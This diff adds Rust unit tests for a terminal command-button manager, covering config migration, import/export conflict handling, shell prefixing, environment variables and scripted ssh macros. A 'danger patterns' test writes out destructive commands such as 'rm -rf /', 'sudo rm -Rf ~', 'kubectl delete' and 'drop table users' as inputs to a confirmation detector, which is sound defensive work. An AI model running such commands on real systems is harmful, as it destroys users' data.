+            "cursor_blink": true,
+            "theme": { "name": "Nord", "background": "#2e3440", "red": "#bf616a" }
+        }
+    }"##;
+
+    #[test]
+    fn test_migrate_fixture_v2() {
+        let state = AppState::from_json(FIXTURE_V2).unwrap();
+        let theme = &state.terminal_config.theme;
+        assert_eq!(theme.name, "Nord");
+        assert_eq!(theme.red, "#bf616a");
+        // Colors left out come from the default theme
+        assert_eq!(theme.green, TerminalTheme::default().green);
+    }
+
+    #[test]
+    fn test_migrate_default_colors_keep_default_theme() {
+        let json = r##"{
+            "schema_version": 1,
+            "terminal_config": {
+                "cursor_blink": true,
+                "background_color": "#1e1e1e",
+                "foreground_color": "#d4d4d4"
+            }
+        }"##;
+        let state = AppState::from_json(json).unwrap();
+        assert_eq!(state.terminal_config, TerminalConfig::default());
+    }
+
+    #[test]
+    fn test_migrate_toml_without_version() {
+        let state = AppState::from_toml("[sidebar_config]\nwidth = 320\n").unwrap();
+
+        assert_eq!(state.schema_version, SCHEMA_VERSION);
+        assert_eq!(state.sidebar_config.width, 320);
+    }
+
+    #[test]
+    fn test_unknown_fields_survive_roundtrip() {
+        let json = r#"{
+            "schema_version": 99,
+            "future_setting": { "enabled": true },
+            "button_manager": {
+                "buttons": [
+                    { "id": "b1", "name": "Build", "command": "make", "color": "red" }
+                ]
+            }
+        }"#;
+
+        let state = AppState::from_json(json).unwrap();
+        assert_eq!(state.schema_version, 99);
+
+        let saved: Value = serde_json::from_str(&state.to_json().unwrap()).unwrap();
+        assert_eq!(saved["future_setting"]["enabled"], Value::Bool(true));
+        assert_eq!(saved["button_manager"]["buttons"][0]["color"], "red");
+        assert_eq!(saved["schema_version"], 99);
+    }
+
+    #[test]
+    fn test_migrate_rejects_non_object() {
+        let result = AppState::from_json("[1, 2, 3]");
+        assert!(matches!(result, Err(AppError::InvalidDocument(_))));
+    }
+
+    // ============================================
+    // Export / Import Tests
+    // ============================================
+
+    fn bundle_fixture() -> ConfigBundle {
+        ConfigBundle {
+            schema_version: SCHEMA_VERSION,
+            buttons: Some(vec![
+                CommandButton::with_id("b1".to_string(), "Build".to_string(), "make".to_string()),
+                CommandButton::with_id(
+                    "b2".to_string(),
+                    "Test".to_string(),
+                    "make test".to_string(),
+                ),
+                CommandButton::with_id(
+                    "b3".to_string(),
+                    "Lint".to_string(),
+                    "make lint".to_string(),
+                ),
+            ]),
+            groups: None,
+            terminal_config: None,
+            profiles: Some(vec![Profile::new("root".to_string())]),
+            themes: None,
+        }
+    }
+
+    #[test]
+    fn test_export_bundle_sections() {
+        let mut state = AppState::new();
+        state
+            .button_manager
+            .add_button("Build".to_string(), "make".to_string())
+            .unwrap();
+        state.profiles.push(Profile::new("root".to_string()));
+
+        let bundle = state.export_bundle(&[BundleSection::Buttons]);
+        assert_eq!(bundle.buttons.as_ref().map(Vec::len), Some(1));
+        assert!(bundle.terminal_config.is_none());
+        assert!(bundle.profiles.is_none());
+
+        let loaded = ConfigBundle::from_json(&bundle.to_json().unwrap()).unwrap();
+        assert_eq!(loaded, bundle);
+    }
+
+    #[test]
+    fn test_preview_import() {
+        let mut state = AppState::new();
+        state.button_manager.buttons.push(CommandButton::with_id(
+            "b1".to_string(),
+            "Build".to_string(),
+            "make".to_string(),
+        ));
+        state.button_manager.buttons.push(CommandButton::with_id(
+            "other".to_string(),
+            "Test".to_string(),
+            "cargo test".to_string(),
+        ));
+        let mut bundle = bundle_fixture();
+        bundle.terminal_config = Some(TerminalConfig {
+            cursor_blink: false,
+            ..TerminalConfig::default()
+        });
+
+        let changes: Vec<_> = state
+            .preview_import(&bundle)
+            .into_iter()
+            .map(|item| (item.key, item.change))
+            .collect();
+        assert_eq!(
+            changes,
+            vec![
+                ("b1".to_string(), ImportChange::Unchanged),
+                ("b2".to_string(), ImportChange::Conflict),
+                ("b3".to_string(), ImportChange::Added),
+                ("terminal_config".to_string(), ImportChange::Changed),
+                ("root".to_string(), ImportChange::Added),
+            ]
+        );
+    }
+
+    #[test]
+    fn test_apply_import_resolutions() {
+        let mut state = AppState::new();
+        state.button_manager.buttons.push(CommandButton::with_id(
+            "b1".to_string(),
+            "Build".to_string(),
+            "cargo build".to_string(),
+        ));
+        state.button_manager.buttons.push(CommandButton::with_id(
+            "other".to_string(),
+            "Test".to_string(),
+            "cargo test".to_string(),
+        ));
+        state.button_manager.record_use("b1", 5_000).unwrap();
+        state.profiles.push(Profile {
+            shell: Some("bash".to_string()),
+            ..Profile::new("root".to_string())
+        });
+
+        let resolutions = [
+            import_resolution(ImportItemKind::Button, "b1", ConflictResolution::Overwrite),
+            import_resolution(ImportItemKind::Button, "b2", ConflictResolution::Duplicate),
+        ];
+        let summary = state.apply_import(&bundle_fixture(), &resolutions).unwrap();
+
+        assert_eq!(
+            summary,
+            ImportSummary {
+                added: 1,
+                overwritten: 1,
+                duplicated: 1,
+                kept: 1,
+            }
+        );
+        let overwritten = state.button_manager.get_button("b1").unwrap();
+        assert_eq!(overwritten.command, "make");
+        // Usage stays with the button it was recorded for
+        assert_eq!(overwritten.use_count, 1);
+        assert_eq!(overwritten.last_used_ms, Some(5_000));
+        assert_eq!(
+            state.button_manager.get_button("other").unwrap().command,
+            "cargo test"
+        );
+        assert!(state
+            .button_manager
+            .get_buttons()
+            .iter()
+            .any(|b| b.name == "Test (imported)" && b.command == "make test"));
+        assert_eq!(state.button_manager.count(), 4);
+        assert_eq!(
+            state.get_profile("root").unwrap().shell.as_deref(),
+            Some("bash")
+        );
+    }
+
+    #[test]
+    fn test_apply_import_overwrite_by_name_keeps_existing_id() {
+        let mut state = AppState::new();
+        state.button_manager.buttons.push(CommandButton::with_id(
+            "local".to_string(),
+            "Lint".to_string(),
+            "eslint .".to_string(),
+        ));
+
+        let resolutions = [import_resolution(
+            ImportItemKind::Button,
+            "b3",
+            ConflictResolution::Overwrite,
+        )];
+        state.apply_import(&bundle_fixture(), &resolutions).unwrap();
+
+        let lint = state.button_manager.get_button("local").unwrap();
+        assert_eq!(lint.command, "make lint");
+        assert!(state.button_manager.get_button("b3").is_none());
+    }
+
+    fn import_resolution(
+        kind: ImportItemKind,
+        key: &str,
+        resolution: ConflictResolution,
+    ) -> ImportResolution {
+        ImportResolution {
+            kind,
+            key: key.to_string(),
+            resolution,
+        }
+    }
+
+    #[test]
+    fn test_apply_import_resolutions_are_kept_apart_by_kind() {
+        let mut state = AppState::new();
+        state.button_manager.buttons.push(CommandButton::with_id(
+            "root".to_string(),
+            "Root shell".to_string(),
+            "sudo -i".to_string(),
+        ));
+        state.profiles.push(Profile {
+            shell: Some("bash".to_string()),
+            ..Profile::new("root".to_string())
+        });
+        let bundle = ConfigBundle {
+            buttons: Some(vec![CommandButton::with_id(
+                "root".to_string(),
+                "Root shell".to_string(),
+                "su -".to_string(),
+            )]),
+            ..bundle_fixture()
+        };
+
+        let resolutions = [import_resolution(
+            ImportItemKind::Profile,
+            "root",
+            ConflictResolution::Overwrite,
+        )];
+        let summary = state.apply_import(&bundle, &resolutions).unwrap();
+        assert_eq!((summary.overwritten, summary.kept), (1, 1));
+        assert_eq!(state.get_profile("root").unwrap().shell, None);
+        assert_eq!(
+            state.button_manager.get_button("root").unwrap().command,
+            "sudo -i"
+        );
+    }
+
+    #[test]
+    fn test_apply_import_duplicates_get_unique_names() {
+        let mut state = AppState::new();
+        state.profiles.push(Profile {
+            shell: Some("bash".to_string()),
+            ..Profile::new("root".to_string())
+        });
+        let bundle = ConfigBundle {
+            buttons: None,
+            ..bundle_fixture()
+        };
+        let resolutions = [import_resolution(
+            ImportItemKind::Profile,
+            "root",
+            ConflictResolution::Duplicate,
+        )];
+        for _ in 0..3 {
+            state.apply_import(&bundle, &resolutions).unwrap();
+        }
+
+        let names: Vec<_> = state.profiles.iter().map(|p| p.name.as_str()).collect();
+        assert_eq!(
+            names,
+            vec![
+                "root",
+                "root (imported)",
+                "root (imported 2)",
+                "root (imported 3)"
+            ]
+        );
+    }
+
+    #[test]
+    fn test_import_themes() {
+        let theme = |name: &str, background: &str| TerminalTheme {
+            name: name.to_string(),
+            background: background.to_string(),
+            ..TerminalTheme::default()
+        };
+        let mut source = AppState::new();
+        source.add_theme(theme("Night", "#000000"), false).unwrap();
+        source.add_theme(theme("Paper", "#ffffff"), false).unwrap();
+        let bundle = source.export_bundle(&[BundleSection::Themes]);
+        assert!(bundle.buttons.is_none());
+        let bundle = ConfigBundle::from_json(&bundle.to_json().unwrap()).unwrap();
+        assert_eq!(bundle.themes.as_ref().map(Vec::len), Some(2));
+
+        let mut state = AppState::new();
+        state.add_theme(theme("night", "#111111"), false).unwrap();
+        let changes: Vec<_> = state
+            .preview_import(&bundle)
+            .into_iter()
+            .map(|item| (item.kind, item.key, item.change))
+            .collect();
+        assert_eq!(
+            changes,
+            vec![
+                (
+                    ImportItemKind::Theme,
+                    "Night".to_string(),
+                    ImportChange::Conflict
+                ),
+                (
+                    ImportItemKind::Theme,
+                    "Paper".to_string(),
+                    ImportChange::Added
+                ),
+            ]
+        );
+
+        // Unresolved conflicts keep the existing theme
+        let summary = state.apply_import(&bundle, &[]).unwrap();
+        assert_eq!((summary.added, summary.kept), (1, 1));
+        assert_eq!(state.theme("Night").unwrap().background, "#111111");
+
+        let resolutions = [import_resolution(
+            ImportItemKind::Theme,
+            "Night",
+            ConflictResolution::Duplicate,
+        )];
+        state.apply_import(&bundle, &resolutions).unwrap();
+        assert_eq!(
+            state.theme("Night (imported)").unwrap().background,
+            "#000000"
+        );
+
+        let resolutions = [import_resolution(
+            ImportItemKind::Theme,
+            "Night",
+            ConflictResolution::Overwrite,
+        )];
+        let summary = state.apply_import(&bundle, &resolutions).unwrap();
+        assert_eq!(summary.overwritten, 1);
+        assert_eq!(state.theme("Night").unwrap().background, "#000000");
+        assert_eq!(state.themes.len(), 3);
+    }
+
+    #[test]
+    fn test_apply_import_drops_clashing_shortcuts() {
+        let mut state = AppState::new();
+        let mut bundle = bundle_fixture();
+        bundle.buttons.as_mut().unwrap()[0].accelerator = Some("CmdOrCtrl+K".to_string());
+        state.apply_import(&bundle, &[]).unwrap();
+
+        assert_eq!(state.button_manager.get_buttons()[0].accelerator, None);
+        state.validate().unwrap();
+    }
+
+    #[test]
+    fn test_import_rejects_invalid_items() {
+        let mut bundle = bundle_fixture();
+        bundle.buttons.as_mut().unwrap()[0].command = "deploy {{env".to_string();
+        assert!(ConfigBundle::from_json(&bundle.to_json().unwrap()).is_err());
+
+        let mut state = AppState::new();
+        assert!(state.apply_import(&bundle, &[]).is_err());
+        assert_eq!(state.button_manager.count(), 0);
+        assert!(state.profiles.is_empty());
+
+        let mut bundle = bundle_fixture();
+        bundle.profiles.as_mut().unwrap()[0]
+            .env
+            .insert("BAD NAME".to_string(), "1".to_string());
+        assert!(matches!(
+            state.apply_import(&bundle, &[]),
+            Err(AppError::InvalidEnvName(_))
+        ));
+    }
+
+    // ============================================
+    // Confirmation Tests
+    // ============================================
+
+    #[test]
+    fn test_confirm_policy_defaults_to_none_and_is_omitted() {
+        let button = CommandButton::with_id("b".into(), "Build".into(), "make".into());
+        let json = serde_json::to_string(&button).unwrap();
+        assert!(!json.contains("confirm"));
+
+        let loaded: CommandButton =
+            serde_json::from_str(r#"{"id":"b","name":"Drop","command":"x","confirm":"type_name"}"#)
+                .unwrap();
+        assert_eq!(loaded.confirm, ConfirmPolicy::TypeName);
+    }
+
+    #[test]
+    fn test_default_danger_patterns() {
+        let state = AppState::new();
+        for command in [
+            "rm -rf build",
+            "rm -fr /tmp/x",
+            "sudo rm -Rf ~",
+            "kubectl delete pod web-1",
+            "terraform apply -auto-approve",
+            "psql -c 'drop table users'",
+        ] {
+            assert_eq!(
+                state.matched_danger_patterns(command).unwrap().len(),
+                1,
+                "{command}"
+            );
+        }
+        for command in [
+            "rm build.log",
+            "rm -r build",
+            "kubectl get pods",
+            "terraform plan",
+            "grep -rf patterns .",
+        ] {
+            assert!(
+                state.matched_danger_patterns(command).unwrap().is_empty(),
+                "{command}"
+            );
+        }
+    }
+
+    #[test]
+    fn test_danger_patterns_load_from_config() {
+        let state = AppState::from_toml("schema_version = 1").unwrap();
+        assert_eq!(state.danger_patterns, default_danger_patterns());
+
+        let state = AppState::from_toml(
+            r#"
+schema_version = 1
+danger_patterns = ["git push --force"]
+"#,
+        )
+        .unwrap();
+        assert_eq!(state.danger_patterns, vec!["git push --force"]);
+        assert!(state
+            .matched_danger_patterns("rm -rf /")
+            .unwrap()
+            .is_empty());
+
+        let state = AppState::from_toml("schema_version = 1\ndanger_patterns = []").unwrap();
+        assert!(state.danger_patterns.is_empty());
+    }
+
+    #[test]
+    fn test_invalid_danger_pattern() {
+        let mut state = AppState::new();
+        state.danger_patterns = vec!["(unclosed".to_string()];
+        let err = state.matched_danger_patterns("ls").unwrap_err();
+        assert!(matches!(err, AppError::InvalidPattern { pattern, .. } if pattern == "(unclosed"));
+        assert!(matches!(
+            state.validate(),
+            Err(AppError::InvalidPattern { pattern, .. }) if pattern == "(unclosed"
+        ));
+        assert!(
+            AppState::from_toml("schema_version = 1\ndanger_patterns = [\"(unclosed\"]").is_err()
+        );
+    }
+
+    #[test]
+    fn test_review_ad_hoc_command() {
+        let state = AppState::new();
+
+        let review = state.review_command("ls -la".into(), None).unwrap();
+        assert_eq!(review.confirm, ConfirmPolicy::None);
+        assert!(review.check(None).is_ok());
+
+        let review = state
+            .review_command("kubectl delete ns staging".into(), None)
+            .unwrap();
+        assert_eq!(review.confirm, ConfirmPolicy::Confirm);
+        assert_eq!(review.command, "kubectl delete ns staging");
+        assert_eq!(review.matched_patterns.len(), 1);
+        assert!(matches!(
+            review.check(None),
+            Err(AppError::ConfirmationRequired)
+        ));
+        assert!(review.check(Some("")).is_ok());
+    }
+
+    #[test]
+    fn test_review_button_policy() {
+        let state = AppState::new();
+        let mut button = CommandButton::with_id("b".into(), "Prod deploy".into(), "x".into());
+
+        button.confirm = ConfirmPolicy::Confirm;
+        let review = state
+            .review_command("deploy".into(), Some(&button))
+            .unwrap();
+        assert_eq!(review.confirm, ConfirmPolicy::Confirm);
+        assert_eq!(review.expected_text, None);
+        assert!(review.matched_patterns.is_empty());
+
+        button.confirm = ConfirmPolicy::TypeName;
+        let review = state
+            .review_command("terraform apply".into(), Some(&button))
+            .unwrap();
+        assert_eq!(review.confirm, ConfirmPolicy::TypeName);
+        assert_eq!(review.expected_text.as_deref(), Some("Prod deploy"));
+        assert!(review.check(None).is_err());
+        assert!(review.check(Some("yes")).is_err());
+        assert!(review.check(Some("Prod deploy")).is_ok());
+    }
+
+    #[test]
+    fn test_diff_detects_danger_pattern_change() {
+        let old = AppState::new();
+        let mut new = old.clone();
+        new.danger_patterns.push("shutdown".to_string());
+        let diff = old.diff(&new);
+        assert!(diff.danger_patterns_changed);
+        assert!(!diff.is_empty());
+    }
+
+    // ============================================
+    // Button Environment Tests
+    // ============================================
+
+    fn env(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
+        pairs
+            .iter()
+            .map(|(k, v)| (k.to_string(), v.to_string()))
+            .collect()
+    }
+
+    #[test]
+    fn test_button_env_roundtrip() {
+        let toml = r#"
+schema_version = 1
+
+[[button_manager.buttons]]
+id = "test"
+name = "Test"
+command = "npm test"
+cwd = "~/src/app"
+shell = "/usr/bin/fish"
+
+[button_manager.buttons.env]
+NODE_ENV = "{{env:test}}"
+"#;
+        let state = AppState::from_toml(toml).unwrap();
+        let button = state.button_manager.get_button("test").unwrap();
+        assert_eq!(button.env, env(&[("NODE_ENV", "{{env:test}}")]));
+        assert_eq!(button.cwd.as_deref(), Some("~/src/app"));
+        assert_eq!(button.shell.as_deref(), Some("/usr/bin/fish"));
+
+        let reloaded = AppState::from_toml(&state.to_toml().unwrap()).unwrap();
+        assert_eq!(reloaded.button_manager.get_button("test"), Some(button));
+
+        let plain = CommandButton::with_id("b".into(), "B".into(), "ls".into());
+        let json = serde_json::to_string(&plain).unwrap();
+        assert!(!json.contains("env") && !json.contains("cwd") && !json.contains("shell"));
+    }
+
+    #[test]
+    fn test_button_variables_include_env() {
+        let mut button =
+            CommandButton::with_id("b".into(), "Deploy".into(), "deploy {{app}}".into());
+        button.env = env(&[("REGION", "{{region:eu}}"), ("APP", "{{app}}")]);
+
+        let names: Vec<_> = button
+            .variables()
+            .unwrap()
+            .into_iter()
+            .map(|v| v.name)
+            .collect();
+        assert_eq!(names, vec!["app", "region"]);
+
+        let values = HashMap::from([("app".to_string(), "web".to_string())]);
+        assert_eq!(
+            button.render_env(&values).unwrap(),
+            env(&[("APP", "web"), ("REGION", "eu")])
+        );
+    }
+
+    #[test]
+    fn test_button_validate_env() {
+        let mut button = CommandButton::with_id("b".into(), "B".into(), "ls".into());
+        button.env = env(&[("GOOD_NAME1", "x")]);
+        assert!(button.validate().is_ok());
+
+        button.env = env(&[("1BAD", "x")]);
+        assert!(matches!(button.validate(), Err(AppError::InvalidEnvName(n)) if n == "1BAD"));
+
+        button.env = env(&[("OK", "{{unclosed")]);
+        assert!(matches!(button.validate(), Err(AppError::Template { .. })));
+    }
+
+    #[test]
+    fn test_prompt_and_history_cover_env_variables() {
+        let mut manager = ButtonManager::new();
+        let id = manager
+            .add_button("Deploy".into(), "deploy".into())
+            .unwrap();
+        manager.buttons[0].env = env(&[("REGION", "{{region}}")]);
+
+        let values = HashMap::from([("region".to_string(), "us".to_string())]);
+        manager.record_values(&id, &values).unwrap();
+        let prompt = manager.prompt(&id).unwrap();
+        assert_eq!(prompt.len(), 1);
+        assert_eq!(prompt[0].variable.name, "region");
+        assert_eq!(prompt[0].value.as_deref(), Some("us"));
+
+        // Renaming keeps the history of variables that are still used
+        manager
+            .update_button(&id, "Deploy!".into(), "deploy --now".into())
+            .unwrap();
+        assert_eq!(manager.value_history(&id, "region"), ["us"]);
+    }
+
+    #[test]
+    fn test_shell_from_program() {
+        assert_eq!(Shell::from_program("/bin/zsh"), Some(Shell::Posix));
+        assert_eq!(Shell::from_program("bash"), Some(Shell::Posix));
+        assert_eq!(
+            Shell::from_program("/opt/homebrew/bin/fish"),
+            Some(Shell::Fish)
+        );
+        assert_eq!(
+            Shell::from_program(r"C:\Program Files\PowerShell\7\pwsh.exe"),
+            Some(Shell::PowerShell)
+        );
+        assert_eq!(Shell::from_program("CMD.EXE"), Some(Shell::Cmd));
+        assert_eq!(Shell::from_program("sudo"), None);
+    }
+
+    #[test]
+    fn test_command_args() {
+        assert_eq!(Shell::command_args("/usr/bin/fish"), vec!["-c"]);
+        assert_eq!(Shell::command_args("pwsh"), vec!["-Command"]);
+        assert_eq!(Shell::command_args("cmd.exe"), vec!["/C"]);
+        let launcher = if cfg!(windows) {
+            vec!["cmd.exe", "/C"]
+        } else {
+            vec!["sh", "-c"]
+        };
+        assert_eq!(Shell::command_args("sudo"), launcher);
+    }
+
+    #[test]
+    fn test_prefix_posix() {
+        let shell = Shell::Posix;
+        assert_eq!(shell.prefix(None, &env(&[]), "ls").unwrap(), "ls");
+        assert_eq!(
+            shell
+                .prefix(
+                    Some("/srv/my app"),
+                    &env(&[("A", "1"), ("B", "it's")]),
+                    "make"
+                )
+                .unwrap(),
+            r"cd '/srv/my app' && (export A=1 B='it'\''s'; make)"
+        );
+        assert_eq!(
+            shell
+                .prefix(None, &env(&[("A", "1")]), "make && make install | tee log")
+                .unwrap(),
+            "(export A=1; make && make install | tee log)"
+        );
+        assert_eq!(
+            shell.prefix(Some("~/src/my app"), &env(&[]), "ls").unwrap(),
+            "cd ~'/src/my app' && ls"
+        );
+        assert_eq!(
+            shell.prefix(Some("~"), &env(&[]), "ls").unwrap(),
+            "cd ~ && ls"
+        );
+        assert_eq!(
+            shell.prefix(Some("~user"), &env(&[]), "ls").unwrap(),
+            "cd '~user' && ls"
+        );
+    }
+
+    #[test]
+    fn test_prefix_other_shells() {
+        let vars = env(&[("NODE_ENV", "production")]);
+        assert_eq!(
+            Shell::Fish
+                .prefix(Some("/tmp"), &vars, "npm start")
+                .unwrap(),
+            "cd /tmp && begin; set -lx NODE_ENV production; npm start; end"
+        );
+        assert_eq!(
+            Shell::PowerShell
+                .prefix(Some(r"C:\My Apps"), &vars, "npm start")
+                .unwrap(),
+            r"Set-Location -LiteralPath 'C:\My Apps' -ErrorAction Stop; $env:NODE_ENV = 'production'; npm start"
+        );
+        assert_eq!(
+            Shell::PowerShell
+                .prefix(Some("~/src"), &env(&[]), "ls")
+                .unwrap(),
+            "Set-Location -LiteralPath (Join-Path $HOME /src) -ErrorAction Stop; ls"
+        );
+        assert_eq!(
+            Shell::Cmd
+                .prefix(Some(r"C:\My Apps"), &vars, "npm start")
+                .unwrap(),
+            r#"cd /d "C:\My Apps" && set "NODE_ENV=production" && npm start"#
+        );
+        assert_eq!(
+            Shell::Cmd
+                .prefix(Some("~/src/app"), &env(&[]), "dir")
+                .unwrap(),
+            r#"cd /d "%USERPROFILE%\src\app" && dir"#
+        );
+        assert!(matches!(
+            Shell::Cmd.prefix(None, &env(&[("A", "100%")]), "x"),
+            Err(AppError::UnsafeValue { .. })
+        ));
+        assert!(matches!(
+            Shell::Posix.prefix(None, &env(&[("A B", "x")]), "x"),
+            Err(AppError::InvalidEnvName(_))
+        ));
+    }
+
+    #[test]
+    fn test_button_profile_layers_button_settings() {
+        let mut state = AppState::new();
+        let mut profile = Profile::new("ops".into());
+        profile.shell = Some("zsh".into());
+        profile.args = vec!["-l".into()];
+        profile.cwd = Some("/ops".into());
+        profile.env = env(&[("A", "profile"), ("B", "profile")]);
+        state.profiles.push(profile);
+
+        let mut button = CommandButton::with_id("b".into(), "B".into(), "x".into());
+        button.cwd = Some("/button".into());
+        let rendered = env(&[("B", "button")]);
+
+        let spawned = state
+            .button_profile(&button, None, rendered.clone())
+            .unwrap();
+        assert_eq!(spawned.cwd.as_deref(), Some("/button"));
+        assert_eq!(spawned.env, rendered);
+
+        let request = SpawnRequest {
+            profile: Some("ops".into()),
+            ..SpawnRequest::default()
+        };
+        let spawned = state
+            .button_profile(&button, Some(&request), rendered.clone())
+            .unwrap();
+        assert_eq!(spawned.cwd.as_deref(), Some("/button"));
+        assert_eq!(spawned.env, env(&[("A", "profile"), ("B", "button")]));
+        assert_eq!(spawned.shell_kind(), Shell::Posix);
+
+        let request = SpawnRequest {
+            profile: Some("ops".into()),
+            cwd: Some("/target".into()),
+            ..SpawnRequest::default()
+        };
+        button.shell = Some("fish".into());
+        let spawned = state
+            .button_profile(&button, Some(&request), BTreeMap::new())
+            .unwrap();
+        assert_eq!(spawned.cwd.as_deref(), Some("/target"));
+        assert_eq!(spawned.shell.as_deref(), Some("fish"));
+        assert!(spawned.args.is_empty());
+        assert_eq!(spawned.shell_kind(), Shell::Fish);
+    }
+
+    // ============================================
+    // Macro Tests
+    // ============================================
+
+    fn send(text: &str) -> MacroStep {
+        MacroStep::Send {
+            text: text.to_string(),
+            enter: true,
+        }
+    }
+
+    fn wait_for(pattern: &str, timeout_ms: u64) -> MacroStep {
+        MacroStep::WaitFor {
+            pattern: pattern.to_string(),
+            timeout_ms,
+        }
+    }
+
+    #[test]
+    fn test_strip_ansi() {
+        assert_eq!(
+            strip_ansi("\x1b[1;32muser@host\x1b[0m:~$ "),
+            "user@host:~$ "
+        );
+        assert_eq!(strip_ansi("\x1b]0;title\x07ls\r\n"), "ls\n");
+        assert_eq!(strip_ansi("\x1b]2;title\x1b\\ok\x1b(Bdone"), "okdone");
+        assert_eq!(strip_ansi("a\tb\x08c"), "a\tbc");
+    }
+
+    #[test]
+    fn test_strip_ansi_across_chunks() {
+        let mut stripper = AnsiStripper::default();
+        assert_eq!(stripper.push("pass\x1b[3"), "pass");
+        assert_eq!(stripper.push("1mword\x1b"), "word");
+        assert_eq!(stripper.push("[0m: "), ": ");
+    }
+
+    #[test]
+    fn test_macro_steps_from_toml() {
+        let toml = r#"
+schema_version = 1
+
+[[button_manager.buttons]]
+id = "deploy"
+name = "Deploy"
+command = "deploy via bastion"
+steps = [
+    { type = "send", text = "ssh {{host}}" },
+    { type = "wait_for", pattern = "(?i)password:", timeout_ms = 5000 },
+    { type = "send", text = "{{password|secret|raw}}" },
+    { type = "if_match", pattern = "denied", timeout_ms = 2000, then = [{ type = "send", text = "exit" }], else = [{ type = "wait_for_prompt" }, { type = "send", text = "./deploy.sh" }] },
+    { type = "sleep", ms = 500 },
+]
+"#;
+        let state = AppState::from_toml(toml).unwrap();
+        let button = state.button_manager.get_button("deploy").unwrap();
+        assert!(button.is_macro());
+        assert_eq!(button.steps.len(), 5);
+        assert_eq!(button.steps[0], send("ssh {{host}}"));
+        assert_eq!(button.steps[1], wait_for("(?i)password:", 5000));
+        assert!(matches!(
+            &button.steps[3],
+            MacroStep::IfMatch { then, otherwise, .. } if then.len() == 1 && otherwise.len() == 2
+        ));
+        assert!(matches!(
+            &button.steps[3],
+            MacroStep::IfMatch { otherwise, .. }
+                if otherwise[0] == MacroStep::WaitForPrompt { pattern: None, timeout_ms: DEFAULT_MACRO_TIMEOUT_MS }
+        ));
+
+        let names: Vec<_> = button
+            .variables()
+            .unwrap()
+            .into_iter()
+            .map(|v| v.name)
+            .collect();
+        assert_eq!(names, vec!["host", "password"]);
+
+        let reloaded = AppState::from_toml(&state.to_toml().unwrap()).unwrap();
+        assert_eq!(reloaded.button_manager.get_button("deploy"), Some(button));
+    }
+
+    #[test]
+    fn test_validate_macro_patterns() {
+        let mut button = CommandButton::with_id("b".into(), "B".into(), "x".into());
+        button.steps = vec![MacroStep::IfMatch {
+            pattern: "ok".into(),
+            timeout_ms: 10,
+            then: vec![wait_for("[unclosed", 10)],
+            otherwise: vec![],
+        }];
+        assert!(matches!(
+            button.validate(),
+            Err(AppError::InvalidPattern { pattern, .. }) if pattern == "[unclosed"
+        ));
+    }
+
+    #[test]
+    fn test_macro_send_and_wait() {
+        let values = HashMap::from([("host".to_string(), "bastion 1".to_string())]);
+        let steps = vec![
+            send("ssh {{host}}"),
+            wait_for("(?i)password:", 1000),
+            MacroStep::Send {
+                text: "hunter2".into(),
+                enter: true,
+            },
+            MacroStep::WaitForPrompt {
+                pattern: None,
+                timeout_ms: 1000,
+            },
+            send("./deploy.sh"),
+        ];
+        let mut executor =
+            MacroExecutor::new(&steps, &values, Shell::Posix, &HashSet::new()).unwrap();
+        let t0 = Instant::now();
+
+        assert_eq!(
+            executor.next(t0).unwrap(),
+            MacroAction::Send("ssh 'bastion 1'\n".into())
+        );
+        let deadline = t0 + Duration::from_millis(1000);
+        assert_eq!(executor.next(t0).unwrap(), MacroAction::Wait(deadline));
+
+        executor.push_output("Welcome\r\n\x1b[1mPass");
+        assert_eq!(executor.next(t0).unwrap(), MacroAction::Wait(deadline));
+        executor.push_output("word:\x1b[0m ");
+        assert_eq!(
+            executor.next(t0).unwrap(),
+            MacroAction::Send("hunter2\n".into())
+        );
+
+        // Output from before the send doesn't count as the prompt
+        executor.push_output("\r\nLast login: today\r\n");
+        let t1 = t0 + Duration::from_millis(10);
+        assert!(matches!(executor.next(t1).unwrap(), MacroAction::Wait(_)));
+        executor.push_output("[deploy@bastion ~]$ ");
+        assert_eq!(
+            executor.next(t1).unwrap(),
+            MacroAction::Send("./deploy.sh\n".into())
+        );
+        assert_eq!(executor.next(t1).unwrap(), MacroAction::Finished);
+    }
+
+    #[test]
+    fn test_macro_wait_times_out() {
+        let steps = vec![wait_for("ready", 100), send("go")];
+        let mut executor =
+            MacroExecutor::new(&steps, &HashMap::new(), Shell::Posix, &HashSet::new()).unwrap();
+        let t0 = Instant::now();
+        assert!(matches!(executor.next(t0).unwrap(), MacroAction::Wait(_)));
+        executor.push_output("not yet");
+        let err = executor.next(t0 + Duration::from_millis(100)).unwrap_err();
+        assert!(matches!(err, AppError::MacroTimeout(p) if p == "ready"));
+    }
+
+    #[test]
+    fn test_macro_branches() {
+        let steps = vec![MacroStep::IfMatch {
+            pattern: "denied".into(),
+            timeout_ms: 100,
+            then: vec![send("exit")],
+            otherwise: vec![send("deploy"), send("logout")],
+        }];
+        let t0 = Instant::now();
+
+        let mut matched =
+            MacroExecutor::new(&steps, &HashMap::new(), Shell::Posix, &HashSet::new()).unwrap();
+        assert!(matches!(matched.next(t0).unwrap(), MacroAction::Wait(_)));
+        matched.push_output("Permission denied");
+        assert_eq!(
+            matched.next(t0).unwrap(),
+            MacroAction::Send("exit\n".into())
+        );
+        assert_eq!(matched.next(t0).unwrap(), MacroAction::Finished);
+
+        let mut timed_out =
+            MacroExecutor::new(&steps, &HashMap::new(), Shell::Posix, &HashSet::new()).unwrap();
+        assert!(matches!(timed_out.next(t0).unwrap(), MacroAction::Wait(_)));
+        let later = t0 + Duration::from_millis(100);
+        assert_eq!(
+            timed_out.next(later).unwrap(),
+            MacroAction::Send("deploy\n".into())
+        );
+        assert_eq!(
+            timed_out.next(later).unwrap(),
+            MacroAction::Send("logout\n".into())
+        );
+        assert_eq!(timed_out.next(later).unwrap(), MacroAction::Finished);
+
+        assert_eq!(matched.preview(), "");
+        let fresh =
+            MacroExecutor::new(&steps, &HashMap::new(), Shell::Posix, &HashSet::new()).unwrap();
+        assert_eq!(fresh.preview(), "exit\ndeploy\nlogout\n");
+    }
+
+    #[test]
+    fn test_macro_sleep_and_no_enter() {
+        let steps = vec![
+            MacroStep::Sleep { ms: 50 },
+            MacroStep::Send {
+                text: "y".into(),
+                enter: false,
+            },
+        ];
+        let mut executor =
+            MacroExecutor::new(&steps, &HashMap::new(), Shell::Posix, &HashSet::new()).unwrap();
+        let t0 = Instant::now();
+        let deadline = t0 + Duration::from_millis(50);
+        assert_eq!(executor.next(t0).unwrap(), MacroAction::Wait(deadline));
+        // Output doesn't end a sleep early
+        executor.push_output("$ ");
+        assert_eq!(
+            executor.next(t0 + Duration::from_millis(20)).unwrap(),
+            MacroAction::Wait(deadline)
+        );
